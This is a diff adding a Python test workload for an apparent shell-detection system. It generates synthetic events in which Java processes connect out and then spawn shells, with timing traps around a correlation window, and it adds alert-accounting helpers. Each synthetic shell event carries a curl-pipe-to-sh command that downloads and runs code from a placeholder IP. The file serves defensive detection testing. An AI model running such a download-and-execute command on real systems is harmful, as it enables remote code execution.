@@ -1,0 +1,93 @@
+"""A workload for the fault suite: Java hosts whose connections and shells interleave, with the traps of DESIGN §4.
+
+Each host runs one Java process that connects out every ``period_ms`` (event time); after some of those
+connections it spawns a shell within the 5 s maxspan, and sometimes a second connection comes first (conn,
+conn, exec: the exec must pair with the newer one). Every exec runs its own command line, so no shell alert
+is grouped away. Documents are returned in event-time order, the order a live feed produces them.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass
+from typing import Any
+
+from shellwatch.samples.ecs_factory import connection, execution
+
+__all__ = ["Accounting", "account", "java_hosts"]
+
+
+def java_hosts(*, hosts: int, span_ms: int, period_ms: int, start_ms: int, seed: int) -> list[dict[str, Any]]:
+    rng = random.Random(seed)
+    docs: list[tuple[int, int, dict[str, Any]]] = []
+    for h in range(hosts):
+        host_id = f"fault-{seed}-{h:04d}"
+        java_pid = 1_000 + h
+        ts = start_ms + rng.randrange(period_ms)
+        n = 0
+        while ts < start_ms + span_ms:
+            n += 1
+            ip = f"185.{rng.randrange(1, 250)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+            docs.append(
+                (
+                    ts,
+                    len(docs),
+                    connection(ts_ms=ts, host_id=host_id, pid=java_pid, dest_ip=ip, event_id=f"{host_id}-c{n}"),
+                )
+            )
+            roll = rng.random()
+            if roll < 0.15:  # a newer connection before the shell
+                ts2 = ts + rng.randrange(100, 2_000)
+                docs.append(
+                    (
+                        ts2,
+                        len(docs),
+                        connection(ts_ms=ts2, host_id=host_id, pid=java_pid, dest_ip=ip, event_id=f"{host_id}-c{n}b"),
+                    )
+                )
+                ts = ts2
+            if roll < 0.5:  # a shell within the maxspan (or, one time in ten, just past it)
+                gap = rng.randrange(50, 4_900) if rng.random() < 0.9 else rng.randrange(5_100, 7_000)
+                te = ts + gap
+                docs.append(
+                    (
+                        te,
+                        len(docs),
+                        execution(
+                            ts_ms=te,
+                            host_id=host_id,
+                            pid=50_000 + n,
+                            parent_pid=java_pid,
+                            event_id=f"{host_id}-e{n}",
+                            args=["/bin/bash", "-c", f"curl -s http://203.0.113.7/{host_id}/{n} | sh"],
+                        ),
+                    )
+                )
+                ts = te
+            ts += period_ms + rng.randrange(-period_ms // 4, period_ms // 4)
+    docs.sort(key=lambda item: (item[0], item[1]))
+    return [doc for _, _, doc in docs]
+
+
+@dataclass(frozen=True)
+class Accounting:
+    run: str
+    expected: int
+    present: int
+    missing: int
+    extra: int
+    duplicates: int  # alert records beyond the first of each id (same id: harmless redelivery)
+
+    def line(self) -> str:
+        return (
+            f"{self.run}: expected {self.expected} / present {self.present} / missing {self.missing} / "
+            f"extra {self.extra} / duplicates {self.duplicates}"
+        )
+
+
+def account(run: str, expected: set[str], alerts: list[dict[str, Any]]) -> Accounting:
+    ids = [str(a["event"]["id"]) for a in alerts]
+    got = set(ids)
+    return Accounting(
+        run, len(expected), len(got & expected), len(expected - got), len(got - expected), len(ids) - len(got)
+    )
